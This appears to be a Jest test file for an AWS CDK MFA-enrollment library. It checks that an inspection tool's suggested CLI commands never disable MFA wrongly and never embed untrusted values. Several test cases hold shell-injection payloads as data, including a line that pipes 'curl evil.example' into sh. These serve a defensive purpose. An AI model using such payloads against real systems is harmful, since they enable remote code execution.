import type { Stack } from 'aws-cdk-lib';
import * as iam from 'aws-cdk-lib/aws-iam';
import { Secret } from 'aws-cdk-lib/aws-secretsmanager';
import { Construct } from 'constructs';
import { MfaEnrollment, VirtualMfaDevice } from '../../lib';
import { creationId, ENROLLMENT_CLAIM_PREFIX, MARK_PREFIX, markValue } from '../../lib/contract';
import { CallError } from '../../lambda/aws/ports';
import type { Finding } from '../../inspection/report';
import { finding } from '../../inspection/texts';
import { codesOf, enroll, InspectedAccount } from './account';

/*
 * What an inspection advises takes MFA from nobody who relies on it, and no command runs what others have written to AWS.
 */

const SWITCHES_OFF = /deactivate-mfa-device|delete-virtual-mfa-device/;
const OWNER = '01234567-89ab-cdef-0123-456789abcdef/Mfa';

let account: InspectedAccount;
beforeEach(() => {
  account = new InspectedAccount();
});

/** Enrolls a user with a device that exists. */
function enrollWith(stack: Stack, userName: string, serialNumber: string, secretArn: string, adoptExisting = false) {
  const scope = new Construct(stack, 'Imported');
  const seedSecret = Secret.fromSecretCompleteArn(scope, 'Seed', secretArn);
  const attributes = { serialNumber, seedSecret };
  const device = VirtualMfaDevice.fromVirtualMfaDeviceAttributes(scope, 'Device', attributes);
  const user = iam.User.fromUserName(scope, 'User', userName);
  new MfaEnrollment(scope, 'Mfa', { user, device, adoptExisting });
}

/** A device of somebody else, with its seed in a secret. */
function createDevice() {
  const { serialNumber, seed } = account.createDevice('imported');
  account.createSecret('mfa/imported', seed);
  const secretArn = account.secretsManager.call('DescribeSecret', { SecretId: 'mfa/imported' }).ARN as string;
  return { serialNumber, seed, secretArn };
}

/** Lets each Delete fail after it has said that it leaves. */
function failDeletes(): void {
  account.faultOf = (action, { RequestType }) =>
    RequestType === 'Delete' && /Untag|Deactivate|DeleteVirtual/.test(action)
      ? { error: new CallError(action, 'AccessDenied', 403), effect: false }
      : undefined;
}

/** Deletes a stack whose Deletes fail, and retains what can't be deleted. */
async function abandon(stackName: string): Promise<void> {
  failDeletes();
  const { status, resources } = await account.clock.run(account.cloudFormation.deleteStack(stackName));
  expect(status).toBe('DELETE_FAILED');
  const retainResources = resources.map(({ logicalId }) => logicalId);
  await account.clock.run(account.cloudFormation.deleteStack(stackName, { retainResources }));
  account.faultOf = () => undefined;
}

const commandsOf = (findings: readonly Finding[]) => findings.map(({ command = '' }) => command).join('\n');

function tag(serialNumber: string, tags: Readonly<Record<string, string>>): void {
  const Tags = Object.entries(tags).map(([Key, Value]) => ({ Key, Value }));
  account.iam.call('TagMFADevice', { SerialNumber: serialNumber, Tags });
}

/** Claims a device for a stack that is gone, whose Delete did not finish. */
function tagOrphaned(serialNumber: string, owner: string, user = 'ann'): void {
  const creation = creationId('ffffffff', account.clock.now() - 1_000);
  tag(serialNumber, {
    [ENROLLMENT_CLAIM_PREFIX + owner]: `enabled ${user} ${creation} us-east-1 Old`,
    [MARK_PREFIX + owner]: markValue({ creation, time: account.clock.now() }),
  });
}

describe('a device whose stack was abandoned', () => {
  let serialNumber: string;
  let secretArn: string;
  beforeEach(async () => {
    await account.deploy((stack) => {
      new VirtualMfaDevice(stack, 'Device', { virtualMfaDeviceName: 'shared' });
    }, 'Maker');
    [serialNumber = ''] = account.serialNumbers;
    secretArn = account.secretArnOf('Maker');
  });

  test('is not switched off while another stack enrolls it: the claim is reported, with a command that only untags', async () => {
    await account.deploy((stack) => enrollWith(stack, 'ann', serialNumber, secretArn), 'User');
    await abandon('Maker');
    const { findings } = await account.inspect();
    expect(findings).toMatchObject([{ code: 'ORPHANED_CLAIM', subject: { serialNumber, stackName: 'Maker' } }]);
    expect(findings[0]!.command).toMatch(/^aws iam untag-mfa-device \S+ \S+ --tag-keys cdk-mfa-enrollment:device:\S+$/);
    expect(findings[0]!.next).toContain('The device stays as it is.');
  });

  test('is not switched off while a stack of a region that was not inspected claims it', async () => {
    await account.deploy((stack) => enrollWith(stack, 'ann', serialNumber, secretArn), 'User');
    await abandon('User');
    await abandon('Maker');
    const creation = creationId('ffffffff', account.clock.now());
    tag(serialNumber, { [ENROLLMENT_CLAIM_PREFIX + OWNER]: `enabled ann ${creation} eu-west-1 Elsewhere` });
    const { findings } = await account.inspect();
    expect(codesOf({ findings } as never)).toEqual(['ORPHANED_CLAIM', 'ORPHANED_CLAIM']);
    expect(commandsOf(findings)).not.toMatch(SWITCHES_OFF);
  });

  test('is deactivated and deleted if the stack that enabled it was abandoned, too', async () => {
    await account.deploy((stack) => enrollWith(stack, 'ann', serialNumber, secretArn), 'User');
    await abandon('User');
    await abandon('Maker');
    const { findings } = await account.inspect();
    expect(findings).toMatchObject([{ code: 'ORPHANED_DEVICE', subject: { serialNumber, userName: 'ann' } }]);
    expect(findings[0]!.command).toMatch(/^aws iam deactivate-mfa-device .* && aws iam delete-virtual-mfa-device /);
  });

  test('is not switched off if somebody has enabled it since the abandoned stack did', async () => {
    await account.deploy((stack) => enrollWith(stack, 'ann', serialNumber, secretArn), 'User');
    await abandon('User');
    await abandon('Maker');
    account.deactivate(serialNumber, 'ann');
    await account.clock.run(account.clock.sleep(60 * 60 * 1000));
    await account.enable(serialNumber, 'ann', account.seedIn(secretArn));
    const { findings } = await account.inspect();
    expect(findings).toMatchObject([{ code: 'ORPHANED_DEVICE', subject: { serialNumber, userName: 'ann' } }]);
    expect(findings[0]).not.toHaveProperty('command');
  });

  test('is not switched off if somebody else enabled it', async () => {
    await account.enable(serialNumber, 'ann', account.seedIn(secretArn));
    await abandon('Maker');
    const { findings } = await account.inspect();
    expect(findings).toMatchObject([{ code: 'ORPHANED_DEVICE', subject: { serialNumber, userName: 'ann' } }]);
    expect(findings[0]).not.toHaveProperty('command');
    expect(findings[0]!.next).toMatch(/^It is enabled for user ann, and no claim says that this library enabled it\./);
  });
});

test('an orphaned claim on a device that a stack adopted is removed, and the device stays enabled', async () => {
  const { serialNumber, seed, secretArn } = createDevice();
  await account.enable(serialNumber, 'eve', seed);
  await account.deploy((stack) => enrollWith(stack, 'eve', serialNumber, secretArn, true));
  await abandon('Stack');
  const { findings } = await account.inspect();
  expect(findings).toMatchObject([{ code: 'ORPHANED_CLAIM', subject: { serialNumber } }]);
  expect(findings[0]!.command).toMatch(/^aws iam untag-mfa-device /);
});

test('an orphaned claim is removed, and the device stays enabled if a stack that was not inspected claims it', async () => {
  const { serialNumber, secretArn } = createDevice();
  await account.deploy((stack) => enrollWith(stack, 'ann', serialNumber, secretArn), 'Other');
  await account.deploy((stack) => {
    enroll(stack, 'ann');
    enrollWith(stack, 'ann', serialNumber, secretArn);
  });
  failDeletes();
  await account.deploy((stack) => enroll(stack, 'ann'));
  const { findings } = await account.inspect({ stacks: ['Stack'] });
  expect(codesOf({ findings } as never)).toEqual(['ORPHANED_CLAIM']);
  expect(commandsOf(findings)).not.toMatch(SWITCHES_OFF);
});

test('a device is not taken from a user for whom another stack enrolls it', async () => {
  const { serialNumber, seed, secretArn } = createDevice();
  await account.deploy((stack) => enrollWith(stack, 'ann', serialNumber, secretArn));
  account.deactivate(serialNumber, 'ann');
  await account.enable(serialNumber, 'ben', seed);
  await account.deploy((stack) => enrollWith(stack, 'ben', serialNumber, secretArn, true), 'Other');
  const { findings } = await account.inspect();
  expect(findings).toMatchObject([{ code: 'DEVICE_ON_OTHER_USER', subject: { userName: 'ann' } }]);
  expect(findings[0]).not.toHaveProperty('command');
  expect(JSON.stringify(findings)).not.toContain(seed);
});

describe('what others write to AWS is in no command', () => {
  let device: string;
  beforeEach(async () => {
    await account.deploy((stack) => enroll(stack, 'ann'));
    [device = ''] = account.serialNumbers;
  });

  test.each([
    'aaaaaaaa;curl evil.example|sh;bbbbbbbbbbbb',
    '$(curl evil.example)aaaaaaaaaaaaaaaaaaa',
    '--endpoint-url=https://evil.example/',
  ])('the id of a version, %j', async (id) => {
    const SecretId = account.secretArnOf();
    account.secretsManager.call('PutSecretValue', { SecretId, SecretString: 'x', ClientRequestToken: id });
    const { findings } = await account.inspect();
    expect(findings).toMatchObject([{ code: 'SEED_OVERWRITTEN' }]);
    expect(findings[0]!.command).toBeUndefined();
    expect(findings[0]!.next).toMatch(
      /No command is shown, because a name in it has characters that a shell could interpret\.$/,
    );
  });

  test.each(['x --endpoint-url https://evil.example/', `${OWNER} --debug`, 'x/Mfa', OWNER.replace('Mfa', 'a-b')])(
    'the key of a tag, %j, which is no claim either',
    async (owner) => {
      tagOrphaned(device, owner);
      expect(await account.inspect()).toMatchObject({ findings: [], undecided: [] });
    },
  );

  test('a claim of a stack that is gone is removed by its key', async () => {
    tagOrphaned(device, OWNER);
    expect(commandsOf((await account.inspect()).findings)).toBe(
      `aws iam untag-mfa-device --serial-number ${device} --tag-keys ${ENROLLMENT_CLAIM_PREFIX}${OWNER}`,
    );
  });
});

describe('a command has each value as it is, or is not shown', () => {
  const serialNumber = 'arn:aws:iam::123456789012:mfa/alice';

  test.each(['-alice', '=alice', 'alice;id', 'alice bob', 'a`id`', 'a$(id)', "a'b", 'alice\n', 'x'.repeat(65), ''])(
    'a user name %j',
    (userName) => {
      expect(finding('UNEXPECTED_DEVICE', { userName, serialNumber }).command).toBeUndefined();
    },
  );

  test.each(['alice', 'alice+mfa=1,x.y@example.com-2_3', 'JBSWY3DPEHPK3PXPJBSWY3DPEHPK3PXP'])(
    'the user name %j is neither quoted nor masked',
    (userName) => {
      expect(finding('UNEXPECTED_DEVICE', { userName, serialNumber }).command).toBe(
        `aws iam deactivate-mfa-device --user-name ${userName} --serial-number ${serialNumber}`,
      );
    },
  );

  test('a secret with a long name is not cut', () => {
    const secretArn = `arn:aws:secretsmanager:eu-west-1:123456789012:secret:${'long/'.repeat(90)}-AbCdEf`;
    expect(finding('SECRET_SCHEDULED_FOR_DELETION', { secretArn, serialNumber }).command).toBe(
      `aws secretsmanager restore-secret --region eu-west-1 --secret-id ${secretArn}`,
    );
  });

  test.each([
    'arn:aws:secretsmanager:x y:1:secret:a',
    'arn:aws:secretsmanager:eu-west-1:123456789012:secret:a;id',
    'mfa/bob',
  ])('a secret %j', (secretArn) => {
    expect(finding('SECRET_SCHEDULED_FOR_DELETION', { secretArn, serialNumber }).command).toBeUndefined();
  });
});

describe('a device that was enabled later than its claims explain is ENABLED_BY_OTHERS', () => {
  let device: string;
  let secretArn: string;
  beforeEach(async () => {
    await account.deploy((stack) => enroll(stack, 'ann'));
    [device = ''] = account.serialNumbers;
    secretArn = account.secretArnOf();
    await account.clock.run(account.clock.sleep(24 * 60 * 60 * 1000));
  });

  const expectEnabledByOthers = async () => {
    const { findings, undecided, rows, isComplete } = await account.inspect();
    expect({ findings, isComplete }).toEqual({ findings: [], isComplete: true });
    expect(undecided).toMatchObject([
      { code: 'ENABLED_BY_OTHERS', subject: { userName: 'ann', serialNumber: device, stackName: 'Stack' } },
    ]);
    expect(undecided[0]!.message).toContain("Raise 'recheck'");
    expect(rows).toMatchObject([{ state: 'unknown', codes: ['ENABLED_BY_OTHERS'] }]);
  };

  test('if somebody created it again under its name, with its tags', async () => {
    const tags = account.tagsOf(device);
    account.deactivate(device, 'ann');
    account.iam.call('DeleteVirtualMFADevice', { SerialNumber: device });
    const { serialNumber, seed } = account.createDevice(device.split('/').at(-1)!);
    expect(serialNumber).toBe(device);
    tag(device, tags);
    await account.enable(device, 'ann', seed);
    await expectEnabledByOthers();
  });

  test('if somebody switched it off and on again', async () => {
    account.deactivate(device, 'ann');
    await account.enable(device, 'ann', account.seedIn(secretArn));
    await expectEnabledByOthers();
  });

  test('but not if the function enabled it again', async () => {
    account.deactivate(device, 'ann');
    await account.deploy((stack) => enroll(stack, 'ann', { recheck: 1 }));
    expect(account.enabled).toEqual([device]);
    expect(await account.inspect()).toMatchObject({ findings: [], undecided: [], rows: [{ state: 'ok' }] });
  });

  test('but not if the function enabled it again for another stack that enrolls the same user with it', async () => {
    const declare = (recheck: number) => (stack: Stack) => {
      const seedSecret = Secret.fromSecretCompleteArn(stack, 'Seed', secretArn);
      const attributes = { serialNumber: device, seedSecret };
      const imported = VirtualMfaDevice.fromVirtualMfaDeviceAttributes(stack, 'Device', attributes);
      enroll(stack, 'ann', { device: imported, recheck });
    };
    await account.deploy(declare(0), 'Other');
    await account.clock.run(account.clock.sleep(24 * 60 * 60 * 1000));
    account.deactivate(device, 'ann');
    await account.deploy(declare(1), 'Other');
    expect(account.enabled).toEqual([device]);
    expect(await account.inspect()).toMatchObject({ findings: [], undecided: [] });
  });

  test('but not if its claim was removed, which is a finding', async () => {
    account.deactivate(device, 'ann');
    await account.enable(device, 'ann', account.seedIn(secretArn));
    account.untag(device, ENROLLMENT_CLAIM_PREFIX);
    const { findings, undecided } = await account.inspect();
    expect(codesOf({ findings } as never)).toEqual(['CLAIM_MISSING']);
    expect(undecided).toEqual([]);
  });
});
